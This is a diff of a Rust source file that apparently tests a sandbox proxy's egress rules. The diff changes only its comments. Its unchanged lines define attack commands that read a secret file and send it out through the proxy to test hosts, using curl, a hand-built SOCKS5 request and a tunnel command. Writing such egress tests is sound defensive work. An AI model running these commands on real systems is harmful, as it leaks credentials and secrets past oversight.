@@ -1,6 +1,7 @@
-//! Internet names and addresses with a proxy that permits some of them: every spelling of those it does not permit.
+//! Internet names and addresses with a proxy that allows some of them: every spelling of names that it does not allow.
 //!
-//! - Servers outside record connections. The attacks may use only `twin.test`, which is permitted.
+//! - Servers outside the sandbox record connections. The attacks may connect only to `twin.test`, which the proxy
+//!   allows.
 
 use crate::row::{Bare::Untried, Group, Row, Sign::Said};
 
@@ -14,7 +15,7 @@ const WILD: &str = "$P hello a.wild.test $(cat $R/secret) | $P tunnel a.wild.tes
 const SOCKS: &str = r#"printf "\5\1\0\5\1\0\3\011twin.test\0\120%s" $(cat $R/secret) | $P proxy"#;
 const CURL: &str = "curl -s --max-time 5 -x http://127.0.0.1:3128 http://twin.test/$(cat $R/secret)";
 
-/// Returns a row that is not tried without a sandbox, because there is no such proxy.
+/// Returns a row that does not run without a sandbox, where no such proxy exists.
 const fn way(name: &'static str, attack: &'static str, twin: &'static str) -> Row {
     Row::new(name, attack, twin, Said).bare(Untried)
 }
